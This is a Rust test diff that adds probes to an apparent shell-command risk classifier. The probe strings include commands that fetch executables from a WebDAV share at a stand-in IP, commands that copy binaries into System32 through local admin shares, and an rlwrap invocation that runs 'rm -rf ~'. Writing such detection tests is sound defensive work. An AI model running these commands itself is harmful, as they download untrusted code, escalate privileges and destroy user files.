@@ -266,3 +266,32 @@ fn network_locations_handed_to_windows_programs() {
         "clean",
     );
 }
+
+/// Probed after the session's mends (second review): a WebDAV share
+/// (`\\host@SSL\share`, `\\host@80\x`), the machine's own admin share
+/// (`\\localhost\C$\Windows`) and rlwrap's filter (`-z CMD`, a program it
+/// runs) passed.
+#[test]
+fn second_review_probes() {
+    flagged_each(
+        &[
+            "expand '\\\\webdav@SSL\\share\\a.bat' a.bat",
+            "esentutl /y '\\\\203.0.113.7@80\\x\\a.exe' /d a.exe",
+        ],
+        Category::Exfiltration,
+        Severity::Medium,
+    );
+    flagged_each(
+        &[
+            "copy a.exe '\\\\localhost\\C$\\Windows\\System32\\a.exe'",
+            "cp a.exe '\\\\127.0.0.1\\c$\\Program Files\\x.exe'",
+        ],
+        Category::SelfEscalation,
+        Severity::High,
+    );
+    flagged_each(
+        &["rlwrap -z 'sh -c \"rm -rf ~\"' cat"],
+        Category::Destructive,
+        Severity::High,
+    );
+}
